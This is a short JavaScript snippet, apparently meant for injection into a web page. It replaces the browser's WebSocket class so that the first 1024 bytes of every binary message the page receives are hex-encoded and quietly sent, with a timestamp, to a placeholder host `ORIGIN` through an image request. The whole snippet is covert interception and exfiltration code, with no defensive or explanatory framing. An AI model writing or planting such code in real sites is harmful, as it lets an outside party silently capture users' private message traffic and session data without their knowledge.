// Tells the website at `ORIGIN` the moment and the beginning of every message that the page gets.
{
  const LOOK = 1024;
  const tell = ({ data }) => {
    if (!(data instanceof ArrayBuffer)) return;
    const start = new Uint8Array(data, 0, Math.min(LOOK, data.byteLength));
    const hex = Array.from(start, (byte) => byte.toString(16).padStart(2, "0")).join("");
    new Image().src = `ORIGIN/${Date.now()}/${hex}`;
  };
  window.WebSocket = class extends WebSocket {
    constructor(...address) {
      super(...address);
      this.addEventListener("message", tell);
    }
  };
}
